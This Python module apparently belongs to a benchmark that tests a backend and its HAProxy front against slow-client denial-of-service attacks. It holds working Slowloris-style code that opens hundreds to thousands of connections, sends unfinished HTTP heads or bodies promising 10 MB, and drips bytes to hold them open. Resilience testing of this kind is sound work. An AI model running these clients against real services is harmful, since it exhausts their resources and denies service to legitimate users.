"""Clients that begin requests and never end them. Each holds a connection and reopens it when it is
closed."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator
from urllib.parse import urlsplit

from benchmarks.hostile.attack import Attack, Begin, Limits

DRIP_S = 1.0
_AGAIN_S = 0.1
_TOGETHER = (
    200  # connections that are opened at once: more than this and the attacker's own loop is the slow one
)

_HEAD = b"POST /predict HTTP/1.1\r\nHost: backend\r\nContent-Type: application/json\r\n"
_PROMISED = _HEAD + b"Content-Length: 10000000\r\n\r\n"


def unfinished(count: int, begun: bytes, drip: bytes) -> Begin:
    """``count`` connections that each send ``begun`` at once, and then a ``drip`` a second."""

    @contextlib.asynccontextmanager
    async def begin(url: str) -> AsyncIterator[None]:
        opening = asyncio.Semaphore(_TOGETHER)
        address = urlsplit(url)
        host, port = address.hostname or "127.0.0.1", address.port or 80
        clients = [asyncio.ensure_future(_client(host, port, begun, drip, opening)) for _ in range(count)]
        try:
            yield
        finally:
            for client in clients:
                client.cancel()
            await asyncio.gather(*clients, return_exceptions=True)

    return begin


async def _client(host: str, port: int, begun: bytes, drip: bytes, opening: asyncio.Semaphore) -> None:
    while True:
        with contextlib.suppress(OSError):
            async with opening:
                reader, writer = await asyncio.open_connection(host, port)
            try:
                writer.write(begun)
                await _drip(reader, writer, drip)
            finally:
                writer.close()
        await asyncio.sleep(_AGAIN_S)


async def _drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, drip: bytes) -> None:
    """Send drips until the other side answers or closes."""
    while True:
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(reader.read(1), DRIP_S)
            return
        writer.write(drip)


# HAProxy's buffers hold what was sent of unfinished bodies: 40 MiB for 300 of them.
_LIMITS = Limits(memory_mib=200.0)

ATTACKS = tuple(
    Attack("slow_clients", name, begin, _LIMITS)
    for name, begin in (
        ("300 bodies that never end", unfinished(300, _PROMISED + b"{", b" ")),
        ("300 that go on behind 160 KiB", unfinished(300, _PROMISED + b"{" + b" " * 160_000, b" ")),
        ("4,200 unfinished heads", unfinished(4_200, _HEAD[:-2], b"")),
    )
)
